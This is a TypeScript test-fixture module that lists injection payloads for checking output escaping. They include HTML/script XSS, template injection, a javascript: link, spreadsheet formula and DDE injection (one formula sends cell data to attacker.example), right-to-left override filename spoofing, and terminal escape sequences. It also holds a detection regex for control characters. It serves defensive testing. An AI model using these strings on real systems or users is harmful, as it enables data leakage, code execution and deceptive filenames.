/**
 * Texts that harm whoever takes them for more than text. A field of the service, or of a message of it, can hold any of them.
 * None may be run or followed. `shown`: how it is shown, where that is not as it was sent.
 */
export interface Payload {
  readonly sent: string
  readonly shown?: string
}

export const payloads = {
  markup: { sent: '<img src=x onerror="window.taken=1"><b class="taken">fet</b>' },
  script: { sent: '"\'><script>window.taken=1</script>' },
  template: { sent: '{{constructor.constructor("window.taken=1")()}}${window.taken=1}' },
  link: { sent: 'javascript:window.taken=1' },
  equals: { sent: '=HYPERLINK("https://attacker.example/?"&A1;"Klicka")' },
  plus: { sent: "+cmd|' /C calc'!A0" },
  minus: { sent: "-2+3+cmd|' /C calc'!A0" },
  at: { sent: "@SUM(1+1)*cmd|' /C calc'!A0" },
  direction: { sent: '\u202Efdp.exe', shown: '[U+202E]fdp.exe' },
  isolate: { sent: '\u2067\u200Babc', shown: '[U+2067][U+200B]abc' },
  terminal: { sent: '\u001B[31mröd\u001B]0;titel\u0007', shown: '[U+001B][31mröd[U+001B]]0;titel[U+0007]' }
} as const satisfies Readonly<Record<string, Payload>>

export const payloadNames = Object.keys(payloads) as readonly (keyof typeof payloads)[]

const payload = (name: keyof typeof payloads): Payload => payloads[name]

export const sentAs = (name: keyof typeof payloads): string => payload(name).sent
export const shownAs = (name: keyof typeof payloads): string => payload(name).shown ?? payload(name).sent

/** All of them in one text, for fields of which there is only one. */
export const allSent = payloadNames.map(sentAs).join(' ')
export const allShown = payloadNames.map(shownAs).join(' ')

/** Characters that none of them may bring to a screen, a terminal or a file: they hide or turn round what follows, or are run. */
export const raw = /(?![\t\r\n\u00AD\u200C\u200D])[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u
